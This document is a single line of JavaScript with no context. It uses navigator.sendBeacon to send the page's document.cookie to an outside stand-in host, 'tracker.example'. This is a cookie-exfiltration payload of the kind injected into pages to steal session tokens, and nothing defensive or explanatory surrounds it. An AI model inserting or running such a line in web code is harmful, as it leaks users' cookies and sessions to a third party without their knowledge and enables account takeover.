navigator.sendBeacon('https://tracker.example/hit', document.cookie);
